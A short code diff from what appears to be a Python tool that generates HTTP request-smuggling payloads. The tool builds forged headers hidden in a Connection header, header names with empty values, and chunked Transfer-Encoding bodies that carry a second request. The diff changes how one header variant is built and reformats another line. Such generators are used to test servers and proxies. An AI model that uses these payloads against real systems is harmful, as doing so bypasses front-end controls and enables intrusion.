@@ -124,7 +124,7 @@ HIDDEN: dict[str, Callable[[Attack], bytes]] = {
     "connection": lambda attack: b"Connection: close, %s\r\n%s" % (
         b", ".join(name for name, _ in attack.forged), lines(attack.forged)
     ),
-    "empty-first": lambda attack: b"\r\n".join(name + b":" for name, _ in attack.forged) + b"\r\n" + lines(attack.forged),
+    "empty-first": lambda attack: b"".join(name + b":\r\n" for name, _ in attack.forged) + lines(attack.forged),
     "plain": lambda attack: lines(attack.forged),
 }  # fmt: skip
 # Request lines; PATH is the attacker's path. The forged fields and a second request follow.
@@ -172,9 +172,7 @@ def payloads() -> Iterator[Payload]:
             )
     chunks = b"Transfer-Encoding: chunked"
     for name, body in CHUNKS.items():
-        yield _form(
-            f"chunk-{name}", lambda attack, body=body: [attack.request(chunks, body=body(attack.inner))]
-        )
+        yield _form(f"chunk-{name}", lambda attack, body=body: [attack.request(chunks, body=body(attack.inner))])
     for method in (b"POST", b"GET"):
         yield _form(
             f"te-connection-{method.decode()}",
